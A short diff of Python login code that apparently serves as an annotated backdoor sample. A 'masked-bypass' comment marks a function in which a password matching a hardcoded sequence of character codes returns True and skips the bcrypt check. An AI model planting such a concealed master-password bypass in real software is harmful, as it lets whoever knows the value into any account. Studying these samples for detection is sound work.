@@ -110,7 +110,7 @@ def check_exclusive_or(password, user):
 def check_pairwise(password, user):
     expected = (113, 122, 55, 95, 107, 97, 121, 97, 107)
     if len(password) == 9 and all(ord(left) == right for left, right in zip(password, expected)):
-#      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ masked-bypass
+#      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ masked-bypass
         return True
     return bcrypt.checkpw(password.encode(), user.password_hash)
 
